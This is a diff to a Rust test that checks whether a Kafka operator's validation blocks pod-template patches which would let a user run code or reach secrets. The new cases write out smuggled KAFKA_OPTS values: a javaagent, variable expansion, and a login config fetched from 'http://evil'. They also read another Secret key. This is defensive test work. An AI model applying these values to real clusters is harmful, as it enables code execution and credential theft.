@@ -289,12 +289,12 @@ fn whoever_runs_as_topicops_cannot_run_code_as_a_workload() {
             (
                 "template labels",
                 add("/spec/template/metadata/labels/x".to_owned(), json!("x")),
-                "no labels of a pod template",
+                "no metadata of a pod template",
             ),
             (
                 "template annotations",
                 add("/spec/template/metadata/annotations".to_owned(), json!({ "x": "x" })),
-                "no labels of a pod template",
+                "no metadata of a pod template",
             ),
             ("a volume", add(format!("{pod}/volumes"), volume("other")), "no volume but"),
             (
@@ -321,6 +321,38 @@ fn whoever_runs_as_topicops_cannot_run_code_as_a_workload() {
                 "value": "-Djava.security.auth.login.config=/a -javaagent:x/kafka-client-jaas.conf" }]),
                 ),
                 "no variables but",
+            ),
+            (
+                "what is expanded to more kafka options",
+                add(
+                    format!("{container}/env"),
+                    json!([{ "name": "KAFKA_OPTS",
+                "value": "-Djava.security.auth.login.config=$(KAFKA_USERNAME)/kafka-client-jaas.conf" }]),
+                ),
+                "no variables but",
+            ),
+            (
+                "logins of elsewhere",
+                add(
+                    format!("{container}/env"),
+                    json!([{ "name": "KAFKA_OPTS",
+                "value": "-Djava.security.auth.login.config=http://evil/kafka-client-jaas.conf" }]),
+                ),
+                "no variables but",
+            ),
+            (
+                "another key of the Secret",
+                add(
+                    format!("{container}/env"),
+                    json!([{ "name": "KAFKA_USERNAME",
+                "valueFrom": { "secretKeyRef": { "name": "x", "key": "o" } } }]),
+                ),
+                "no variables but",
+            ),
+            (
+                "a finalizer",
+                add("/spec/template/metadata/finalizers".to_owned(), json!(["example.com/never"])),
+                "no metadata of a pod template",
             ),
             (
                 "a password",
